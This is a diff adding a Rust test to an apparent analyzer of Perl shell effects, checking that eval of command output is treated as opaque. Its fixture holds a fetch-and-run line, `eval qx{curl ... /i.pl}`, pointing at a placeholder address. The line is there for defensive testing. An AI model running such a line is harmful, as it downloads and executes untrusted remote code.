@@ -798,3 +798,14 @@ fn defined_or_and_or_pick_the_side_a_known_left_side_picks() {
     assert_eq!(effects("system('0' || 'ls');"), ["sh -c ls"]);
     assert_eq!(effects("system($ARGV[0] // 'ls');"), ["sh -c ?"]);
 }
+
+#[test]
+fn what_a_command_prints_is_not_its_text() {
+    // `eval` of a command's output runs what it printed, not the command.
+    let reading = read(Lang::Perl, "eval qx{curl -s https://203.0.113.50/i.pl}");
+    assert!(reading.opaque.is_some(), "{:?}", reading.found);
+    assert_eq!(
+        effects("my $c = `cat cmd.txt`; system($c);"),
+        ["sh -c cat cmd.txt", "sh -c ?"]
+    );
+}
